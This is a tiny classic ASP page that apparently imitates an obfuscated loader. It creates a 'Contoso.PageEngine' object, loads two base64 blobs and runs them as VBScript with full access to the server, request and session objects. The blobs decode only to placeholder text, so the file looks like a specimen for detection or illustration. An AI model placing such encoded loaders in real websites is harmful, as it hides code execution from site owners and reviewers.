<%
Set engine = Server.CreateObject("Contoso.PageEngine")
engine.Load "QWxhZGRpbjpvcGVuIHNlc2FtZQ0KU29tZSBlbmNvZGVkIGJsb2I="
engine.Load "U29tZSBtb3JlIGVuY29kZWQgYmxvYiB0aGF0IGRlY29kZXMgdG8gY29kZQ=="
engine.Run "LANGUAGE=VBSCRIPT", Application, Request, Response, Server, Session
Set engine = Nothing
%>
